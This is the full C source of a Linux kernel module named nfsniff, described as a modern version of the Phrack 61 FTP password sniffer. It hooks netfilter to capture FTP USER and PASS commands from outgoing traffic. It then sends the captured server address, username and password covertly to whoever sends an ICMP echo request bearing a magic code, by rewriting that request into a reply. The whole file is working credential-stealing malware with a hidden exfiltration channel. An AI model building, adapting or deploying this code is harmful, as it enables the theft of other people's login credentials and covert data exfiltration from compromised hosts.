// SPDX-License-Identifier: GPL-2.0
/*
 * nfsniff - an FTP password sniffer
 *
 * A modern version of the nfsniff of "Hacking the Linux Kernel Network
 * Stack" (Phrack 61).
 *
 * POST_ROUTING: the data of TCP segments to the FTP port (port=, 21 by
 * default) is searched for the commands "USER name" and "PASS word". The
 * first USER/PASS pair of one connection (the PASS from the same source
 * port to the same server as the USER) is kept with the server's address.
 *
 * PRE_ROUTING: an ICMP echo request with code NFSNIFF_MAGIC_CODE and room
 * for the reply in its data is the collector asking for the pair. If there
 * is one, the request itself is turned into the echo reply, whose data
 * begins with a struct nfsniff_reply (the server's address, the user name,
 * the password), and is sent back out of the interface it came in on; the
 * pair is forgotten. Without a pair, the request goes on and the kernel
 * answers it as any other echo request, with the collector's own data.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/etherdevice.h>
#include <linux/icmp.h>
#include <linux/if_arp.h>
#include <linux/if_ether.h>
#include <linux/ip.h>
#include <linux/module.h>
#include <linux/netdevice.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/skbuff.h>
#include <linux/slab.h>
#include <linux/spinlock.h>
#include <linux/string.h>
#include <linux/tcp.h>
#include <net/checksum.h>
#include <net/ip.h>
#include <net/net_namespace.h>

#define NFSNIFF_MAGIC_CODE	0x5b
#define NFSNIFF_FIELD_LEN	16	/* with the terminating NUL */

/* What the collector gets back, at the start of the echo reply's data. */
struct nfsniff_reply {
	__be32 addr;			/* the FTP server */
	char user[NFSNIFF_FIELD_LEN];
	char pass[NFSNIFF_FIELD_LEN];
} __packed;

static ushort port = 21;
module_param(port, ushort, 0444);
MODULE_PARM_DESC(port, "TCP port of the FTP servers to watch (default 21)");

/*
 * The capture. Both hooks run on any CPU, PRE_ROUTING in softirq context
 * and POST_ROUTING possibly in process context: the lock is taken with
 * bottom halves disabled. Strings are NFSNIFF_FIELD_LEN bytes, NUL-padded.
 */
static DEFINE_SPINLOCK(nfsniff_lock);
static char *nfsniff_user;
static char *nfsniff_pass;
static __be32 nfsniff_addr;
static __be16 nfsniff_sport;
static bool nfsniff_have_pair;

/*
 * If data (len bytes) starts with cmd followed by a space, return a copy
 * of the argument up to the end of the line, truncated and NUL-padded to
 * NFSNIFF_FIELD_LEN bytes; else NULL.
 */
static char *nfsniff_arg(const char *data, unsigned int len, const char *cmd)
{
	size_t clen = strlen(cmd);
	unsigned int n;
	char *arg;

	if (len <= clen + 1 || memcmp(data, cmd, clen) || data[clen] != ' ')
		return NULL;
	data += clen + 1;
	len -= clen + 1;
	for (n = 0; n < len && n < NFSNIFF_FIELD_LEN - 1; n++)
		if (data[n] == '\r' || data[n] == '\n')
			break;

	arg = kmalloc(NFSNIFF_FIELD_LEN, GFP_ATOMIC);
	if (!arg)
		return NULL;
	memcpy(arg, data, n);
	memset(arg + n, 0, NFSNIFF_FIELD_LEN - n);
	return arg;
}

static unsigned int nfsniff_watch_out(void *priv, struct sk_buff *skb,
				      const struct nf_hook_state *state)
{
	const struct iphdr *iph = ip_hdr(skb);
	char _data[sizeof("USER ") + NFSNIFF_FIELD_LEN];
	struct tcphdr _th;
	const struct tcphdr *th;
	const char *data;
	unsigned int off, len;
	char *user, *pass, *old_user = NULL, *old_pass = NULL;

	if (iph->protocol != IPPROTO_TCP || iph->frag_off & htons(IP_OFFSET))
		return NF_ACCEPT;
	th = skb_header_pointer(skb, ip_hdrlen(skb), sizeof(_th), &_th);
	if (!th || th->dest != htons(port))
		return NF_ACCEPT;

	off = ip_hdrlen(skb) + th->doff * 4;
	if (skb->len <= off)
		return NF_ACCEPT;
	len = min_t(unsigned int, skb->len - off, sizeof(_data));
	data = skb_header_pointer(skb, off, len, _data);
	if (!data)
		return NF_ACCEPT;

	user = nfsniff_arg(data, len, "USER");
	pass = user ? NULL : nfsniff_arg(data, len, "PASS");
	if (!user && !pass)
		return NF_ACCEPT;

	spin_lock_bh(&nfsniff_lock);
	if (nfsniff_have_pair) {
		/* Wait for the collector before capturing more. */
	} else if (user) {
		/* A new login: it replaces one that got no PASS. */
		old_user = nfsniff_user;
		nfsniff_user = user;
		user = NULL;
		nfsniff_addr = iph->daddr;
		nfsniff_sport = th->source;
		pr_info("%pI4: USER %s\n", &nfsniff_addr, nfsniff_user);
	} else if (nfsniff_user && nfsniff_addr == iph->daddr &&
		   nfsniff_sport == th->source) {
		old_pass = nfsniff_pass;
		nfsniff_pass = pass;
		pass = NULL;
		nfsniff_have_pair = true;
		pr_info("%pI4: PASS %s\n", &nfsniff_addr, nfsniff_pass);
	}
	spin_unlock_bh(&nfsniff_lock);

	kfree(user);
	kfree(pass);
	kfree(old_user);
	kfree(old_pass);
	return NF_ACCEPT;
}

/* Take the captured pair, if there is one, into reply. */
static bool nfsniff_take_pair(struct nfsniff_reply *reply)
{
	char *user = NULL, *pass = NULL;
	bool found;

	spin_lock_bh(&nfsniff_lock);
	found = nfsniff_have_pair;
	if (found) {
		reply->addr = nfsniff_addr;
		memcpy(reply->user, nfsniff_user, NFSNIFF_FIELD_LEN);
		memcpy(reply->pass, nfsniff_pass, NFSNIFF_FIELD_LEN);
		user = nfsniff_user;
		pass = nfsniff_pass;
		nfsniff_user = NULL;
		nfsniff_pass = NULL;
		nfsniff_addr = 0;
		nfsniff_sport = 0;
		nfsniff_have_pair = false;
	}
	spin_unlock_bh(&nfsniff_lock);

	kfree(user);
	kfree(pass);
	return found;
}

static unsigned int nfsniff_watch_in(void *priv, struct sk_buff *skb,
				     const struct nf_hook_state *state)
{
	struct iphdr *iph = ip_hdr(skb);
	unsigned int ihl = ip_hdrlen(skb);
	struct net_device *dev = skb->dev;
	struct nfsniff_reply reply;
	struct icmphdr _ih, *icmph;
	const struct icmphdr *ih;
	u8 mac[ETH_ALEN];
	struct ethhdr *eth;
	__be32 collector;

	if (iph->protocol != IPPROTO_ICMP ||
	    iph->frag_off & htons(IP_MF | IP_OFFSET))
		return NF_ACCEPT;
	ih = skb_header_pointer(skb, ihl, sizeof(_ih), &_ih);
	if (!ih || ih->type != ICMP_ECHO || ih->code != NFSNIFF_MAGIC_CODE ||
	    skb->len < ihl + sizeof(*ih) + sizeof(reply))
		return NF_ACCEPT;

	/* The reply goes back the way the request came: turn the Ethernet
	 * header around (the loopback device has one too). */
	if ((dev->type != ARPHRD_ETHER && dev->type != ARPHRD_LOOPBACK) ||
	    !skb_mac_header_was_set(skb) || skb_mac_header_len(skb) != ETH_HLEN)
		return NF_ACCEPT;

	/* Our own copy of all of it, linear, before anything is taken. */
	if (skb_ensure_writable(skb, skb->len))
		return NF_ACCEPT;
	if (!nfsniff_take_pair(&reply))
		return NF_ACCEPT;

	/* IP: back to the sender. */
	iph = ip_hdr(skb);
	collector = iph->saddr;
	iph->saddr = iph->daddr;
	iph->daddr = collector;
	ip_send_check(iph);

	/* ICMP: the echo reply, carrying the pair. */
	icmph = (struct icmphdr *)(skb_network_header(skb) + ihl);
	icmph->type = ICMP_ECHOREPLY;
	memcpy(icmph + 1, &reply, sizeof(reply));
	icmph->checksum = 0;
	icmph->checksum = ip_compute_csum(icmph, skb->len - ihl);
	skb->ip_summed = CHECKSUM_NONE;

	/* Ethernet: swap the addresses, and transmit from the link layer. */
	eth = eth_hdr(skb);
	ether_addr_copy(mac, eth->h_source);
	ether_addr_copy(eth->h_source, eth->h_dest);
	ether_addr_copy(eth->h_dest, mac);
	skb_push(skb, ETH_HLEN);
	skb->pkt_type = PACKET_OUTGOING;

	pr_info("sending %pI4's credentials to %pI4 on %s\n", &reply.addr,
		&collector, dev->name);
	dev_queue_xmit(skb);
	return NF_STOLEN;
}

static const struct nf_hook_ops nfsniff_ops[] = {
	{
		.hook		= nfsniff_watch_in,
		.pf		= NFPROTO_IPV4,
		.hooknum	= NF_INET_PRE_ROUTING,
		.priority	= NF_IP_PRI_FIRST,
	},
	{
		.hook		= nfsniff_watch_out,
		.pf		= NFPROTO_IPV4,
		.hooknum	= NF_INET_POST_ROUTING,
		.priority	= NF_IP_PRI_FIRST,
	},
};

static int __init nfsniff_init(void)
{
	int err;

	err = nf_register_net_hooks(&init_net, nfsniff_ops,
				    ARRAY_SIZE(nfsniff_ops));
	if (err) {
		pr_err("cannot register the hooks: %d\n", err);
		return err;
	}
	pr_info("watching FTP logins on TCP port %u\n", port);
	return 0;
}

static void __exit nfsniff_exit(void)
{
	nf_unregister_net_hooks(&init_net, nfsniff_ops,
				ARRAY_SIZE(nfsniff_ops));
	if (nfsniff_have_pair)
		pr_info("unloaded with %pI4's credentials uncollected\n",
			&nfsniff_addr);
	else
		pr_info("unloaded\n");
	kfree(nfsniff_user);
	kfree(nfsniff_pass);
}

module_init(nfsniff_init);
module_exit(nfsniff_exit);

MODULE_DESCRIPTION("FTP password sniffer, answering a magic ICMP echo request");
MODULE_LICENSE("GPL");
